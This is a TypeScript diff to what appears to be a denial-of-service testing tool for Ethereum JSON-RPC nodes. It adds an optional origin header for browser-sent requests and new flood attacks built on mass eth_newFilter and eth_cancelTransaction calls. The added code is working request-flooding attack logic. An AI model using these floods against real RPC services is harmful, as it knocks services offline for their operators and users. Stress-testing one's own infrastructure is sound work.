@@ -13,6 +13,8 @@ export interface AttackParams {
 	readonly url: string;
 	/** The attacker's network address. */
 	readonly from: string;
+	/** The web page that has a browser send the requests. */
+	readonly origin?: string;
 	/** Number of requests or connections. */
 	readonly count: number;
 	readonly connections?: number;
@@ -158,6 +160,13 @@ export const ATTACKS: Readonly<Record<string, (params: AttackParams) => Promise<
 			params: [{ to: account(params, 0).address, data: numbered(i) }, "latest"],
 		})),
 
+	/** eth_newFilter, each for another address. */
+	newFilters: (params) =>
+		floodOf(params, (i) => ({ method: "eth_newFilter", params: [{ address: account(params, i).address }] })),
+
+	/** eth_cancelTransaction of `target`. */
+	cancels: (params) => floodOf(params, () => ({ method: "eth_cancelTransaction", params: [params.target] })),
+
 	/** eth_getProof. */
 	proofs: (params) =>
 		floodOf(params, (i) => ({ method: "eth_getProof", params: [account(params, i).address, [], "latest"] })),
@@ -227,8 +236,9 @@ function floodOf(params: AttackParams, bodyOf: (i: number) => Call | string, pat
 			const made = bodyOf(i);
 			const body = typeof made === "string" ? made : JSON.stringify({ jsonrpc: "2.0", id: i, ...made });
 			const signer = signers[i % signers.length];
-			const headers = signer === undefined ? {} : { "x-flashbots-signature": signer.sign(body) };
-			yield { body, path, headers };
+			const signature = signer === undefined ? {} : { "x-flashbots-signature": signer.sign(body) };
+			const origin = params.origin === undefined ? {} : { origin: params.origin };
+			yield { body, path, headers: { ...signature, ...origin } };
 		}
 	}
 	return flood(requests(), {
